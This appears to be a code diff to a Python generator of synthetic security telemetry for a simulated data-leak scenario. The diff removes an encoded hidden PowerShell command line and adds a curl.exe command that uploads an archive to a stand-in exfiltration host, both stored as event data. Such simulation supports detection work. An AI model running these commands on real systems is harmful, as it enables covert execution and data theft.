@@ -95,12 +95,19 @@ def leaking(rng: np.random.Generator) -> Events:
         process_cmd_line=command,
         service_name="security",
     )
-    shell, encoded = (
-        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAKQA=",
+    sender, upload = (
+        r"C:\Windows\System32\curl.exe",
+        rf"curl.exe -T C:\Users\Public\q.7z https://{company.EXFILTRATED_TO}/up",
     )
-    events.add(LEAKING[0] - 30, PROCESS, desk, user_name=user, process_name=shell, service_name="security",
-               process_cmd_line=f"powershell.exe -nop -w hidden -enc {encoded}")  # fmt: skip
+    events.add(
+        LEAKING[0] - 5,
+        PROCESS,
+        desk,
+        user_name=user,
+        process_name=sender,
+        process_cmd_line=upload,
+        service_name="security",
+    )
     to = {"src_endpoint_ip": desk.address, "dst_endpoint_ip": company.EXFILTRATED_TO}
     for at in np.linspace(*LEAKING, 14) + rng.uniform(0, 30, 14):
         sent = int(rng.lognormal(17.6, 0.35))
